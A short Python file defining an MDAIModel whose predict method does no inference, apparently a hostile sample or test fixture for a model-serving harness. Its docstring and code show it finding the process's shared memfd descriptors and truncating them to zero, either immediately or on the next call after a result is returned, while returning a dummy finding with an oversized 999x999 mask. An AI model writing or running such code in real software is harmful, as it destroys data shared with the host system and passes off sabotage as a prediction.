"""Finds the shared files among its descriptors and truncates them, at once or after the answer was sent."""

import json
import os
import threading


def shared_files():
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + number).startswith("/memfd:"):
                found.append(os.dup(int(number)))
        except OSError:
            pass
    return found


class MDAIModel:
    def __init__(self):
        self.kept = []

    def predict(self, data):
        for number in self.kept:
            os.ftruncate(number, 0)
        self.kept = shared_files()
        if "at once" in data["args"]:
            for number in self.kept:
                os.ftruncate(number, 0)
        return [{"type": "NONE", "study_uid": "1.2", "note": json.dumps(len(self.kept)), "data": {"mask": [[1] * 999] * 999}}]
